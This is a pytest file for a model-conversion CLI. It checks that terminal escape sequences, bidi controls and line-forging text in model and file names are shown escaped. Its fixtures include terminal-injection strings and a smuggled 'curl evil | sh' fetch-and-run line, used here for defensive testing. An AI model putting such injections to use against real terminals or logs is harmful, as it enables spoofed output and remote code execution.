"""Text from a file reaches no terminal as it is: what could steer one is shown escaped, in every command and
every message.
"""

from __future__ import annotations

import ast
import json
import os
import struct
import unicodedata
import zipfile
from pathlib import Path

import numpy as np
import pytest
from onnx import TensorProto, helper, numpy_helper

from mnnprep import errors
from mnnprep.cli import main
from mnnprep.cli.main import _tell, say
from mnnprep.safety.printable import as_text, json_text, one_line, plain
from support.command import Result, call, program

TITLE, CLEAR, TURNED, ISOLATED, C1, LINK = (
    "\x1b]0;owned\x07",
    "\x1b[2J",
    "\u202eevil",
    "\u2066in",
    "\x9b31m",
    "\x1b]8;;http://x\x1b\\",
)
HOSTILE = f"a{TITLE}{CLEAR}{TURNED}{ISOLATED}{C1}{LINK}\r\u200b\u2028z"
FORGED = "x\n  next: curl evil | sh"
HIDDEN = ("Cc", "Cf", "Cs", "Zl", "Zp")


def require_clean(result: Result) -> Result:
    for text in (result.out, result.err):
        steering = sorted(
            {f"U+{ord(c):04X}" for c in text if c != "\n" and unicodedata.category(c) in HIDDEN}
        )
        assert not steering, text
        assert "Traceback" not in text
    return result


def test_what_steers_a_terminal_is_shown_and_the_rest_is_as_it_was() -> None:
    assert (
        plain(f"{CLEAR}é漢\n{TURNED}\ud800\x00\x9b\u2028")
        == "\\x1b[2Jé漢\n\\u202eevil\\ud800\\x00\\x9b\\u2028"
    )
    assert one_line(FORGED) == "x\\x0a  next: curl evil | sh"
    assert plain(plain(HOSTILE)) == plain(HOSTILE)
    assert as_text("a\udcff\x1b") == "a\\udcff\x1b"


def test_json_is_utf_8_and_printable_and_says_the_same() -> None:
    document = {"a\udcff": [HOSTILE, FORGED, "é漢", "\x7f", "\U000e0001"], "number": 0.5, "nothing": None}
    text = json_text(document)
    assert not [c for c in text if c != "\n" and unicodedata.category(c) in HIDDEN]
    assert json.loads(text.encode()) == {"a\\udcff": document["a\udcff"], "number": 0.5, "nothing": None}
    assert "é漢" in text
    assert json_text(document, ascii_only=True).isascii()
    with pytest.raises(ValueError, match="JSON"):
        json_text({"a": float("nan")})


def test_an_error_keeps_its_layout_and_no_text_in_it_can_add_a_line(
    capsys: pytest.CaptureFixture[str],
) -> None:
    for as_json in (False, True):
        _tell(errors.RefusedError(f"bad {HOSTILE}", seen=FORGED, next="look at it"), as_json)
    shown = capsys.readouterr()
    require_clean(Result(3, shown.out, shown.err))
    assert [line[:8] for line in shown.err.splitlines()] == 2 * [
        "refused:",
        "  seen: ",
        "      ne",
        "  next: ",
    ]
    assert json.loads(shown.out)["error"]["seen"] == FORGED
    say(f"running {HOSTILE}\nPROVEN")
    told = capsys.readouterr().err
    require_clean(Result(0, "", told))
    assert told.count("\n") == 1


def test_every_line_that_a_command_prints_is_cleaned() -> None:
    for path in sorted(Path(main.__file__).parent.glob("*.py")):
        calls = [node for node in ast.walk(ast.parse(path.read_text())) if isinstance(node, ast.Call)]
        for called in (made for made in calls if ast.unparse(made.func) in ("click.echo", "print")):
            given = ast.unparse(called.args[0])
            assert given.startswith(("one_line(", "json_text(")) or given == "head + _message(error)", (
                f"{path.name}: {given}"
            )


def onnx_model(path: Path, x: str, operator: str = "Mul") -> Path:
    """y = x * w, with hostile names wherever a name is."""
    y, w = f"y{HOSTILE}", f"w{HOSTILE}"
    ports = [helper.make_tensor_value_info(name, TensorProto.FLOAT, [1, 4]) for name in (x, y)]
    weight = numpy_helper.from_array(np.arange(1, 5, dtype=np.float32), w)
    made = helper.make_graph(
        [helper.make_node(operator, [x, w], [y], name=f"node{HOSTILE}")],
        f"graph{HOSTILE}",
        ports[:1],
        ports[1:],
        [weight],
    )
    model = helper.make_model(
        made, opset_imports=[helper.make_opsetid("", 13)], ir_version=8, producer_name=HOSTILE
    )
    helper.set_model_props(model, {HOSTILE: HOSTILE})
    path.write_bytes(model.SerializeToString())
    return path


def test_names_in_onnx_through_every_command(tmp_path: Path) -> None:
    model = onnx_model(tmp_path / "m.onnx", f"x{HOSTILE}")
    for command in ("inspect", "check"):
        assert "\\x1b]0;owned" in require_clean(call(command, model)).out or command == "check"
    made = require_clean(call("prepare", model, "-o", tmp_path / "out"))
    assert made.code == 0, made.err
    require_clean(call("verify", tmp_path / "out"))
    page = (tmp_path / "out" / "report.html").read_text()
    assert not {c for c in page if c != "\n" and unicodedata.category(c) in HIDDEN}
    require_clean(call("compare", model, model))


def test_names_in_what_is_refused(tmp_path: Path) -> None:
    unknown = onnx_model(tmp_path / "unknown.onnx", "x", operator=f"Own{HOSTILE}")
    for arguments in (
        ["check", unknown],
        ["prepare", unknown, "-o", tmp_path / "out"],
        ["compare", unknown, unknown],
    ):
        require_clean(call(*arguments))
    pages = {
        "page.onnx": f"<!DOCTYPE html><html><title>{HOSTILE}</title>",
        "net.prototxt": f'layer {{ name: "{HOSTILE}" type: "{HOSTILE}" bottom: "q" }}',
    }
    for name, text in pages.items():
        (tmp_path / name).write_text(text, newline="")
        for command in ("inspect", "check"):
            require_clean(call(command, tmp_path / name))
        assert require_clean(call("prepare", tmp_path / name, "-o", tmp_path / "out")).code in (2, 3)


def test_names_in_weights_keras_files_and_archives(tmp_path: Path) -> None:
    entry = {"dtype": "F32", "shape": [1], "data_offsets": [0, 4]}
    header = json.dumps(
        {
            f"{HOSTILE}.weight": entry,
            "\ud800": {**entry, "data_offsets": [4, 8]},
            "__metadata__": {HOSTILE: HOSTILE},
        }
    ).encode()
    (tmp_path / "m.safetensors").write_bytes(struct.pack("<Q", len(header)) + header + bytes(8))
    layer = {"class_name": HOSTILE, "config": {"name": HOSTILE}, "inbound_nodes": []}
    with zipfile.ZipFile(tmp_path / "m.keras", "w") as archive:
        archive.writestr(
            "config.json",
            json.dumps({"class_name": "Functional", "config": {"name": "\ud800", "layers": [layer]}}),
        )
        archive.writestr("metadata.json", json.dumps({"keras_version": HOSTILE}))
        archive.writestr("model.weights.h5", b"")
    with zipfile.ZipFile(tmp_path / "other.zip", "w") as archive:
        archive.writestr(HOSTILE, b"")
    for name in ("m.safetensors", "m.keras", "other.zip"):
        for command in ("inspect", "check"):
            require_clean(call(command, tmp_path / name))
            json.loads(require_clean(call(command, tmp_path / name, "--json")).out)
    require_clean(call("consolidate", tmp_path / "m.safetensors", "--dry-run"))


def test_file_names(tmp_path: Path) -> None:
    for name in (f"{CLEAR}{TURNED}.onnx", "line\n  next: rm.onnx", os.fsdecode(b"mod\xffel.onnx")):
        path = onnx_model(tmp_path / name, "x")
        for arguments in (
            ["inspect", path],
            ["check", path],
            ["inspect", path, "--json"],
            ["verify", path],
            ["consolidate", path, "--dry-run"],
        ):
            result = require_clean(call(*arguments))
            assert result.code in (0, 2, 3), result.err
    for arguments in (
        ["inspect", tmp_path / HOSTILE],
        ["compare", HOSTILE, HOSTILE],
        ["prepare", "x", "-o", "y", f"--{HOSTILE}"],
        [HOSTILE],
    ):
        assert require_clean(call(*arguments)).code in (2, 3)
    result = program("inspect", os.fsdecode(b"mod\xffel.onnx"), cwd=tmp_path)
    require_clean(result)
    assert "mod\\udcffel.onnx" in result.out
